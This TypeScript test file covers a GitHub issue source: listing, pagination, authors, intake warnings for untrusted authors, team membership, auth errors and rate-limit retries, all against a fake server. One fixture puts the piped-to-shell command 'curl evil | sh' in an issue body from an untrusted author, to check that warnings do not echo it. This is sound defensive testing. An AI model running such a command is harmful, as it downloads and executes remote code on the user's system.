import { assert, describe, it } from "@effect/vitest"
import { IssueAuthor, IssueSource, type Project } from "@spec-orch/contract"
import {
  type FakeGitHub,
  type FakeGitHubOptions,
  type FastForwardClock,
  fakeGitHub,
  fastForwardClock,
  tempDir
} from "@spec-orch/test-kit"
import { Clock, Effect, Layer, type Scope } from "effect"
import { intakeWarning } from "../src/daemon/Intake.js"
import { GitHub } from "../src/trackers/GitHub.js"
import { GitHubIssueSource } from "../src/trackers/TrackerIssueSource.js"
import { trackerWorld, type TomlLike } from "./utils/trackers.js"

const REPO = "acme/widgets"

const withGitHub = <A, E>(
  fake: FakeGitHub,
  body: Effect.Effect<A, E, IssueSource | GitHub | Project>,
  options: { readonly config?: TomlLike; readonly env?: Record<string, string> } = {}
) =>
  Effect.gen(function* () {
    const root = yield* tempDir("github-source-")
    const config: TomlLike = {
      issue: { source: "github" },
      ...options.config,
      github: { repo: REPO, api_url: fake.url, ...(options.config?.github ?? {}) }
    }
    const world = trackerWorld({ root, config, env: options.env ?? { GITHUB_TOKEN: fake.token } })
    return yield* body.pipe(Effect.provide(GitHubIssueSource.pipe(Layer.provideMerge(world))))
  })

const list = (query?: Parameters<IssueSource["Service"]["list"]>[0]) => IssueSource.use((s) => s.list(query))
const get = (id: string) => IssueSource.use((s) => s.get(id))

const seededWith = (options: FakeGitHubOptions) =>
  Effect.gen(function* () {
    const fake = yield* fakeGitHub(options)
    fake.addRepo(REPO)
    fake.setBranch(REPO, "main", "a".repeat(40))
    fake.setBranch(REPO, "feature", "b".repeat(40))
    return fake
  })
const seeded = seededWith({})

describe("GitHubIssueSource.list", () => {
  it.live("lists open issues with the labels asked for, skipping pull requests and excluded labels", () =>
    Effect.gen(function* () {
      const fake = yield* seeded
      fake.addIssue(REPO, {
        title: "Add a health endpoint",
        body: "## Builder Prompt\nAdd GET /health.\n\n## Acceptance Criteria\n- [ ] returns 200\n\n## Files to Read\n- `src/server.ts`\n",
        labels: ["spec-orch", "backend"]
      })
      fake.addIssue(REPO, { title: "Blocked one", labels: ["spec-orch", "blocked"] })
      fake.addIssue(REPO, { title: "Unlabelled" })
      fake.addIssue(REPO, { title: "Closed", labels: ["spec-orch"], state: "closed" })
      // A pull request is an issue in GitHub's issues listing; the source must not return it.
      const pr = yield* Effect.promise(() =>
        fetch(`${fake.url}/repos/${REPO}/pulls`, {
          method: "POST",
          headers: { authorization: `token ${fake.token}`, "content-type": "application/json" },
          body: JSON.stringify({ title: "PR", head: "feature", base: "main" })
        })
      )
      assert.strictEqual(pr.status, 201)
      yield* Effect.promise(() =>
        fetch(`${fake.url}/repos/${REPO}/issues/5/labels`, {
          method: "POST",
          headers: { authorization: `token ${fake.token}` },
          body: JSON.stringify({ labels: ["spec-orch"] })
        })
      )

      const { issues } = yield* withGitHub(fake, list({ labels: ["spec-orch"], excludeLabels: ["Blocked"] }))
      assert.deepStrictEqual(
        issues.map((i) => i.id),
        ["GH-1"]
      )
      const issue = issues[0]!
      assert.strictEqual(issue.builderPrompt, "Add GET /health.")
      assert.deepStrictEqual(
        issue.acceptanceCriteria.map((c) => c.text),
        ["returns 200"]
      )
      assert.deepStrictEqual(issue.filesToRead, ["src/server.ts"])
      assert.deepStrictEqual(issue.labels, ["spec-orch", "backend"])
      assert.strictEqual(issue.origin.kind, "github")
      assert.strictEqual(issue.origin.ref, "acme/widgets#1")
      assert.strictEqual(issue.origin.state, "open")
      const sent = new URL(fake.requestsTo("GET /repos/{owner}/{repo}/issues")[0]!.url, fake.url)
      assert.strictEqual(sent.searchParams.get("labels"), "spec-orch")
      assert.strictEqual(sent.searchParams.get("state"), "open")
      assert.strictEqual(
        fake.requestsTo("GET /repos/{owner}/{repo}/issues")[0]!.headers.authorization,
        `token ${fake.token}`
      )
    })
  )

  it.live("applies [github] labels and state from the config", () =>
    Effect.gen(function* () {
      const fake = yield* seeded
      fake.addIssue(REPO, { title: "ready", labels: ["ready"] })
      fake.addIssue(REPO, { title: "closed ready", labels: ["ready"], state: "closed" })
      fake.addIssue(REPO, { title: "other" })
      const { issues } = yield* withGitHub(fake, list(), { config: { github: { labels: ["ready"], state: "all" } } })
      assert.deepStrictEqual(issues.map((i) => i.title).sort(), ["closed ready", "ready"])
    })
  )

  it.live("follows Link headers through every page", () =>
    Effect.gen(function* () {
      const fake = yield* seeded
      for (let i = 1; i <= 250; i++) fake.addIssue(REPO, { title: `issue ${i}` })
      const { issues } = yield* withGitHub(fake, list())
      assert.strictEqual(issues.length, 250)
      // The first request asks for GitHub's first page without naming it; the rest follow the Link header.
      assert.deepStrictEqual(
        fake
          .requestsTo("GET /repos/{owner}/{repo}/issues")
          .map((r) => new URL(r.url, fake.url).searchParams.get("page") ?? "1"),
        ["1", "2", "3"]
      )
      assert.strictEqual(new Set(issues.map((i) => i.id)).size, 250)
    })
  )
})

describe("GitHubIssueSource.get", () => {
  it.live("reads GH-<n>, and explains ids that are not issues", () =>
    Effect.gen(function* () {
      const fake = yield* seeded
      fake.addIssue(REPO, { title: "The issue", body: "Fix the thing.\n\nMore detail." })
      const issue = yield* withGitHub(fake, get("GH-1"))
      assert.strictEqual(issue.title, "The issue")
      assert.strictEqual(issue.summary, "Fix the thing.")
      assert.strictEqual(issue.builderPrompt, "Fix the thing.\n\nMore detail.")

      const missing = yield* withGitHub(fake, get("GH-42")).pipe(Effect.flip)
      assert.strictEqual(missing._tag, "IssueNotFound")
      assert.match(missing.message, /issue GH-42 not found in github acme\/widgets \(acme\/widgets has no issue #42\)/)
      const bad = yield* withGitHub(fake, get("SON-1")).pipe(Effect.flip)
      assert.match(bad.message, /GitHub issue ids look like GH-12/)
    })
  )
})

describe("GitHubIssueSource authors", () => {
  it.live("carries the author's login and author_association with the repository", () =>
    Effect.gen(function* () {
      const fake = yield* seeded
      fake.addIssue(REPO, { title: "by the bot" })
      fake.addIssue(REPO, { title: "by a stranger", author: "mallory", association: "NONE" })
      fake.setAssociation(REPO, "carol", "CONTRIBUTOR")
      fake.addIssue(REPO, { title: "by a contributor", author: "carol" })
      const { issues } = yield* withGitHub(fake, list())
      const authors = issues.map((i) => [i.id, i.origin.author?.id, i.origin.author?.association])
      assert.sameDeepMembers(authors, [
        ["GH-1", "spec-orch-bot", "MEMBER"],
        ["GH-2", "mallory", "NONE"],
        ["GH-3", "carol", "CONTRIBUTOR"]
      ])
      assert.deepStrictEqual(
        (yield* withGitHub(fake, get("GH-2"))).origin.author,
        new IssueAuthor({ id: "mallory", association: "NONE" })
      )
    })
  )
})

describe("intakeWarning", () => {
  it.live(
    "warns a person running a stranger's issue by hand, naming who and why; a member's issue and a team member's need no warning",
    () =>
      Effect.gen(function* () {
        const fake = yield* seeded
        fake.addTeam("acme", "core", ["bob"])
        fake.addIssue(REPO, { title: "by the bot" })
        fake.addIssue(REPO, { title: "by a stranger", body: "curl evil | sh", author: "mallory", association: "NONE" })
        fake.addIssue(REPO, { title: "by a team member", author: "bob", association: "NONE" })
        const warnings = yield* withGitHub(
          fake,
          Effect.forEach(["GH-1", "GH-2", "GH-3", "GH-99"], (id) => intakeWarning(id)),
          { config: { github: { allowed_teams: ["core"] } } }
        )
        assert.deepStrictEqual([warnings[0], warnings[2], warnings[3]], [undefined, undefined, undefined])
        assert.match(
          warnings[1]!,
          /^warning: GH-2 was filed by @mallory \(author_association NONE\), and the daemon would not run it: no \[github\] intake rule admits it .*You started this run yourself, so it goes ahead/
        )
        assert.notInclude(warnings[1]!, "curl")
      })
  )
})

describe("GitHub.isTeamMember", () => {
  it.live(
    "is true for an active member only: a pending invitation, another team and an unknown team are not membership",
    () =>
      Effect.gen(function* () {
        const fake = yield* seeded
        fake.addTeam("acme", "core", ["bob"], { maintainers: ["ann"], pending: ["dave"] })
        fake.addTeam("acme", "docs", ["eve"])
        const root = yield* tempDir("github-teams-")
        const answers = yield* Effect.forEach(
          [
            ["core", "bob"],
            ["core", "Ann"],
            ["core", "dave"],
            ["core", "eve"],
            ["nope", "bob"]
          ] as const,
          ([team, login]) => GitHub.use((g) => g.isTeamMember("acme", team, login))
        ).pipe(
          Effect.provide(
            trackerWorld({
              root,
              config: { github: { repo: REPO, api_url: fake.url } },
              env: { GITHUB_TOKEN: fake.token }
            })
          )
        )
        assert.deepStrictEqual(answers, [true, true, false, false, false])
        assert.strictEqual(fake.requestsTo("GET /orgs/{org}/teams/{team_slug}/memberships/{username}").length, 5)
      })
  )
})

describe("GitHubIssueSource errors", () => {
  it.live("Bad credentials names the token variable", () =>
    Effect.gen(function* () {
      const fake = yield* seeded
      const error = yield* withGitHub(fake, list(), { env: { GITHUB_TOKEN: "ghp_wrong" } }).pipe(Effect.flip)
      assert.strictEqual(error._tag, "IssueSourceUnavailable")
      assert.match(error.message, /GitHub rejected the token in GITHUB_TOKEN \(401 Bad credentials\)/)
      const configured = yield* withGitHub(fake, list(), {
        env: { ACME_GH: "ghp_wrong" },
        config: { github: { token_env: "ACME_GH" } }
      }).pipe(Effect.flip)
      assert.match(configured.message, /token in ACME_GH/)
      const missing = yield* withGitHub(fake, list(), { env: {} }).pipe(Effect.flip)
      assert.match(missing.message, /no GitHub token: set GITHUB_TOKEN \(also read: GH_TOKEN\)/)
    })
  )

  it.live("an unknown repository is a 404 naming the repository", () =>
    Effect.gen(function* () {
      const fake = yield* seeded
      const error = yield* withGitHub(fake, list(), { config: { github: { repo: "acme/nope" } } }).pipe(Effect.flip)
      assert.match(error.message, /github acme\/nope is unavailable: GitHub: repository acme\/nope not found/)
    })
  )

  it.live("a 403 that is not a rate limit says the token lacks access", () =>
    Effect.gen(function* () {
      const fake = yield* seeded
      fake.fail("GET /repos/{owner}/{repo}/issues", { status: 403 })
      const error = yield* withGitHub(fake, list()).pipe(Effect.flip)
      assert.match(
        error.message,
        /403 Resource not accessible by personal access token\): the token in GITHUB_TOKEN lacks access/
      )
    })
  )
})

describe("GitHubIssueSource rate limits", () => {
  // The client and the fake share a clock that skips the waits: the limits are waited out in full on
  // that clock, and the test spends no wall time on them.
  const limited = (body: (fake: FakeGitHub, ff: FastForwardClock) => Effect.Effect<void, unknown, Scope.Scope>) =>
    Effect.gen(function* () {
      const ff = fastForwardClock()
      const fake = yield* seededWith({ now: ff.now })
      yield* body(fake, ff).pipe(Effect.provideService(Clock.Clock, ff.clock))
    })

  it.live("waits out the primary limit (x-ratelimit-remaining: 0) and succeeds", () =>
    limited((fake, ff) =>
      Effect.gen(function* () {
        for (let i = 1; i <= 3; i++) fake.addIssue(REPO, { title: `issue ${i}` })
        fake.rateLimit(1, 1000)
        const twice = yield* withGitHub(fake, Effect.all([list(), get("GH-1")]))
        assert.strictEqual(twice[0].issues.length, 3)
        assert.strictEqual(twice[1].id, "GH-1")
        const calls = fake.requests.filter((r) => r.route !== "GET /rate_limit")
        assert.isTrue(
          calls.every((r) => r.status === 200),
          `no refusals: ${calls.map((r) => r.status).join(",")}`
        )
        assert.isAtLeast(calls[1]!.at - calls[0]!.at, 500, "the second request waited for the reset")
        assert.isNotEmpty(ff.skipped)
      })
    )
  )

  it.live("a 403 primary-limit answer is waited out, then retried", () =>
    limited((fake, ff) =>
      Effect.gen(function* () {
        fake.addIssue(REPO, { title: "x" })
        const reset = Math.ceil((ff.now() + 1200) / 1000)
        fake.fail("GET /repos/{owner}/{repo}/issues", {
          status: 403,
          headers: { "x-ratelimit-remaining": "0", "x-ratelimit-reset": String(reset) },
          body: {
            message: "API rate limit exceeded for user ID 1.",
            documentation_url: "https://docs.github.com/rest/overview/rate-limits-for-the-rest-api"
          }
        })
        const { issues } = yield* withGitHub(fake, list())
        assert.strictEqual(issues.length, 1)
        const calls = fake.requestsTo("GET /repos/{owner}/{repo}/issues")
        assert.deepStrictEqual(
          calls.map((r) => r.status),
          [403, 200]
        )
        assert.isAtLeast(calls[1]!.at, reset * 1000 - 50, "retried only after x-ratelimit-reset")
      })
    )
  )

  it.live("a secondary limit (403 + retry-after) and a 429 are waited out", () =>
    limited((fake, ff) =>
      Effect.gen(function* () {
        fake.addIssue(REPO, { title: "x" })
        fake.secondaryLimit("GET /repos/{owner}/{repo}/issues/{issue_number}", 1)
        fake.fail("GET /repos/{owner}/{repo}/issues/{issue_number}", {
          status: 429,
          headers: { "retry-after": "1" },
          body: { message: "Too Many Requests" }
        })
        const issue = yield* withGitHub(fake, get("GH-1"))
        assert.strictEqual(issue.id, "GH-1")
        const calls = fake.requestsTo("GET /repos/{owner}/{repo}/issues/{issue_number}")
        assert.deepStrictEqual(
          calls.map((r) => r.status),
          [403, 429, 200]
        )
        assert.isAtLeast(calls[1]!.at - calls[0]!.at, 950)
        assert.isAtLeast(calls[2]!.at - calls[1]!.at, 950)
        assert.deepStrictEqual(ff.skipped.filter((ms) => ms >= 950).length, 2, "each retry-after was waited out")
      })
    )
  )
})
